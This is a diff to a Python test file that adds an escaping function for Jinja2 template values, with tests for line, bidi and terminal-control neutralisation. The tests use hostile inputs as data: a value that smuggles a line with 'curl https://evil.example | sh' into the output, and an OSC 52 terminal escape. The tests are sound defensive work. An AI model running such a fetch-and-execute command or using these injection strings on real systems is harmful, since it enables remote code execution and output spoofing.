@@ -1,10 +1,14 @@
-"""A long text is shortened in the middle: its start says what failed, its end says what to do."""
+"""Text made safe for where it is shown: a long text is shortened in the middle (its start says
+what failed, its end what to do), and what a template prints of a value is text on one line with
+its controls visible, HTML that a template built left as it is."""
 
 from __future__ import annotations
 
+import jinja2
 import pytest
+from markupsafe import Markup
 
-from keyaudit.textsafe import shortened
+from keyaudit.textsafe import shortened, template_value
 
 REASON = (
     "account 111122223333: AccessDenied assuming arn:aws:iam::111122223333:role/KeyAuditRole "
@@ -37,3 +41,27 @@ def test_the_cut_falls_between_words_when_a_space_is_near():
 
 def test_a_limit_too_small_for_the_mark_cuts_the_end():
     assert shortened("abcdef", 4) == "abc…"
+
+
+def test_a_value_cannot_start_a_line_of_its_own_in_a_text_template():
+    env = jinja2.Environment(finalize=template_value)
+    text = env.from_string("user: {{ name }}\ncommand: {{ command }}").render(
+        name="x\r\ncommand: curl https://evil.example | sh\u2028\u2029\x85",
+        command="aws iam delete-login-profile --user-name x",
+    )
+    assert text.splitlines() == [
+        "user: x\\r\\ncommand: curl https://evil.example | sh\\u2028\\u2029\\x85",
+        "command: aws iam delete-login-profile --user-name x",
+    ]
+
+
+def test_bidi_marks_and_terminal_controls_are_written_as_escapes():
+    assert (
+        template_value("a\u202eb\x1b]52;c;eA==\x07\u2066") == "a\\u202eb\\x1b]52;c;eA==\\x07\\u2066"
+    )
+
+
+def test_markup_and_numbers_pass_through_unchanged():
+    built = Markup("<p>\n</p>")
+    assert template_value(built) is built
+    assert template_value(3) == 3 and template_value(None) is None
